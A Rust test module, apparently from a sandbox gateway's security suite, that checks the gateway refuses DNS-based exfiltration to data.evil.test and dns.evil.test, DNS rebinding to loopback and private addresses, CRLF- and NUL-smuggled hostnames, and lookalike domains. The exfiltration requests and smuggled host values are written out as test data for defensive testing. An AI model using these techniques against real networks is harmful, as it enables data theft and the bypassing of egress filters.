//! Names: who is asked for, and what they lead to.

use belljar_domain::network::{HostPattern, Policy, Reach, Reason, Rule};
use belljar_scripted::Reply;

use super::{served, works};
use crate::attack::Seen;
use crate::harness::findings::Findings;
use crate::harness::say::{Said, Script, get, socks};
use crate::harness::stage::Stage;
use crate::harness::world::{OUTSIDE, Wish, World, addresses, allow};

/// SOCKS up to the answer that says whether the tunnel is there.
fn by_socks(name: &str, host: &[u8], port: u16) -> Script {
    Script::gateway(name).send([5, 1, 0]).exactly(2).send(socks(host, port)).exactly(10)
}

/// Whether SOCKS said yes.
fn is_connected(said: &Said) -> bool {
    said.got.chars().nth(2) == Some('\u{5}') && said.got.chars().nth(3) == Some('\0')
}

/// The same host by each of the three ways through the gateway.
fn each_way(host: &str) -> [Script; 3] {
    [
        Script::gateway(format!("GET {host}")).ask(get(host, "/hello")),
        Script::gateway(format!("CONNECT {host}")).tunnel(&format!("{host}:443")).rest(0.2),
        by_socks(&format!("SOCKS {host}"), host.as_bytes(), 80).ask(get(host, "/hello")),
    ]
}

fn is_let_through(said: &Said) -> bool {
    said.has("hello") || said.has("HTTP/1.1 200") || is_connected(said)
}

/// Data in names: through every way, and by the sandbox's own resolver.
pub(super) async fn exfiltration(stage: Stage, control: bool) -> anyhow::Result<Seen> {
    let world = World::start().await?;
    let hosts: &[&str] =
        if control { &["*.evil.test"] } else { &["allowed.test", "*.sub.allowed.test"] };
    let sandbox = served(&stage, &world, allow(hosts)?).await?;
    let mut scripts = Vec::from(each_way("data.evil.test"));
    scripts.extend(each_way("c2VjcmV0.data.evil.test"));
    scripts.push(Script::gateway("DoH").tunnel("dns.evil.test:443").rest(0.2));
    let (call, said) = stage.say(&sandbox, &scripts).await?;
    if control {
        let asked = world.names.was_asked("data.evil.test");
        return Ok(works(asked, "an allowed name is looked up", &said));
    }
    let mut findings = Findings::default();
    for said in &said {
        findings.expect(!is_let_through(said), "refused", said.brief());
    }
    let rows = world.denied(&sandbox, call, scripts.len(), Reason::NotAllowed).await;
    findings.expect(rows.is_ok(), "each is written down", rows.err().unwrap_or_default());
    // By its own means: there is no resolver, and no way to one.
    let dns = world.names.address().port().to_string();
    let args = [world.at(80).to_string(), dns];
    findings.verdict(&stage.run(&sandbox, "net/net_01.py", &args).await?)?;
    let asked = world.names.queries();
    findings.expect(asked.is_empty(), "no name was ever looked up", format!("{asked:?}"));
    Ok(findings.seen())
}

/// A name that leads to the host the second time, or to several places at once.
pub(super) async fn rebinding(stage: Stage, control: bool) -> anyhow::Result<Seen> {
    let mut wish = Wish { opens_service: control, ..Wish::default() };
    let near = std::net::IpAddr::from([127, 0, 0, 1]);
    let turns = vec![Reply::Addresses(vec![OUTSIDE]), Reply::Addresses(vec![near])];
    wish.names.push(("rebind.test", if control { addresses(&["127.0.0.1"]) } else { turns }));
    wish.names.push(("near.test", addresses(&["127.0.0.1"])));
    wish.names.push(("mixed.test", vec![Reply::Addresses(vec![OUTSIDE, near])]));
    wish.names.push(("mixed6.test", addresses(&["0.0.0.0", "::1", "fd00::1"])));
    let alias = Reply::Alias("near.test".to_owned(), vec![near]);
    wish.names.push(("alias.test", vec![alias]));
    let world = World::with(wish).await?;
    let port = world.service.address().port();
    let names = ["near.test", "mixed.test", "mixed6.test", "alias.test"];
    let rule = |name: &str| -> anyhow::Result<Rule> {
        Ok(Rule { ports: vec![80, port], ..Rule::of(name.parse::<HostPattern>()?) })
    };
    let rules = names.into_iter().chain(["rebind.test"]).map(rule).collect::<Result<_, _>>()?;
    let policy = Policy { reach: Reach::Allow(rules), ..Policy::default() };
    let sandbox = served(&stage, &world, policy).await?;
    let inner = format!("rebind.test:{port}");
    let inside = Script::gateway("inside").ask(get(&inner, "/hello"));
    if control {
        let (_, said) = stage.say(&sandbox, &[inside]).await?;
        let reached = world.service.record().total() > 0 && said[0].has("hello");
        return Ok(works(reached, "where the operator opened it, it is reached", &said));
    }
    let mut scripts = Vec::new();
    for (name, port) in names.iter().flat_map(|name| [(*name, 80), (*name, port)]) {
        let place = format!("{name}:{port}");
        scripts.push(Script::gateway(&place).ask(get(&place, "/hello")));
        scripts.push(Script::gateway(&place).tunnel(&place).rest(0.1));
        scripts.push(by_socks(&place, name.as_bytes(), port).rest(0.1));
    }
    let (call, said) = stage.say(&sandbox, &scripts).await?;
    let mut findings = Findings::default();
    for said in &said {
        findings.expect(
            !is_let_through(said),
            "one private answer, and it leads nowhere",
            said.brief(),
        );
    }
    let rows = world.denied(&sandbox, call, scripts.len(), Reason::Private).await;
    findings.expect(rows.is_ok(), "each is written down", rows.err().unwrap_or_default());
    // The first answer is fine, and the connection goes there. The second is looked
    // at like the first.
    let outside = Script::gateway("outside").ask(get("rebind.test", "/hello"));
    let (_, said) =
        stage.say(&sandbox, &[outside.clone(), outside, inside.clone(), inside]).await?;
    findings.expect(said[0].has("hello"), "a first answer that is fine is used", said[0].brief());
    for said in &said[2..] {
        findings.expect(!is_let_through(said), "a second one that is not, is not", said.brief());
    }
    let reached = world.service.record().total();
    findings.expect(reached == 0, "the host's service heard nothing", reached);
    Ok(findings.seen())
}

/// Bytes that end a name for one reader and not for another.
pub(super) async fn early_ends(stage: Stage, control: bool) -> anyhow::Result<Seen> {
    let world = World::start().await?;
    let sandbox = served(&stage, &world, allow(&["allowed.test", "*.allowed.test"])?).await?;
    if control {
        let script = by_socks("a plain name", b"sub.allowed.test", 80);
        let said = stage.say(&sandbox, &[script.ask(get("sub.allowed.test", "/hello"))]).await?.1;
        let reached = is_connected(&said[0]) && said[0].has("hello");
        return Ok(works(reached, "the same with a plain name is connected", &said));
    }
    let long = [&b"a".repeat(240)[..], b".allowed.test"].concat();
    let wrong: Vec<Vec<u8>> =
        [0, b'\r', b'\n', b' ', b'@', b'#', b'/', b'\\', b'%', b'?', 0x80, 0xff]
            .iter()
            .map(|byte| [b"data.evil.test".as_slice(), &[*byte], b".allowed.test"].concat())
            .chain([long, b".allowed.test".to_vec(), b"a..allowed.test".to_vec(), Vec::new()])
            .chain([b"data.evil.test\r\nhost: x\r\n.allowed.test".to_vec()])
            .collect();
    let mut scripts = Vec::new();
    for name in &wrong {
        let text = name.escape_ascii().to_string();
        scripts.push(by_socks(&format!("SOCKS {text}"), name, 80).rest(0.1));
        let line = [b"CONNECT ".as_slice(), name, b":443 HTTP/1.1\r\nhost: x\r\n\r\n"].concat();
        scripts.push(Script::gateway(format!("CONNECT {text}")).ask(line));
        let line =
            [b"GET http://".as_slice(), name, b"/hello HTTP/1.1\r\nhost: x\r\n\r\n"].concat();
        scripts.push(Script::gateway(format!("GET {text}")).ask(line));
    }
    let (call, said) = stage.say(&sandbox, &scripts).await?;
    let mut findings = Findings::default();
    for said in &said {
        let refused = if said.name.starts_with("SOCKS") {
            !is_connected(said)
        } else {
            said.status() == 400 && said.statuses().len() == 1
        };
        findings.expect(refused && !said.has("hello"), "400, or SOCKS's word for it", said.brief());
    }
    let rows = world.denied(&sandbox, call, scripts.len(), Reason::Malformed).await;
    findings.expect(rows.is_ok(), "each is written down", rows.err().unwrap_or_default());
    let asked = world.names.queries();
    findings.expect(asked.is_empty(), "before anything is looked up", format!("{asked:?}"));
    Ok(findings.seen())
}

/// Names that end or begin like an allowed one.
pub(super) async fn lookalikes(stage: Stage, control: bool) -> anyhow::Result<Seen> {
    let world = World::start().await?;
    let names = ["notallowed.test", "allowed.test.evil.test", "denied.test"];
    let hosts: &[&str] = if control { &names } else { &["allowed.test", "*.allowed.test"] };
    let sandbox = served(&stage, &world, allow(hosts)?).await?;
    let scripts: Vec<Script> = names.iter().flat_map(|name| each_way(name)).collect();
    let (call, said) = stage.say(&sandbox, &scripts).await?;
    if control {
        let reached = said.iter().all(is_let_through);
        return Ok(works(reached, "where rules name them, they are reached", &said));
    }
    let mut findings = Findings::default();
    for said in &said {
        findings.expect(!is_let_through(said), "whole labels are compared", said.brief());
    }
    let rows = world.denied(&sandbox, call, scripts.len(), Reason::NotAllowed).await;
    findings.expect(rows.is_ok(), "each is written down", rows.err().unwrap_or_default());
    for name in names {
        findings.expect(!world.names.was_asked(name), "never looked up", name);
    }
    for pattern in ["*", "*.", "*.*", "a*.allowed.test", "*allowed.test", ".allowed.test", ""] {
        let parsed = pattern.parse::<HostPattern>();
        findings.expect(parsed.is_err(), "no rule means everyone by accident", pattern);
    }
    Ok(findings.seen())
}
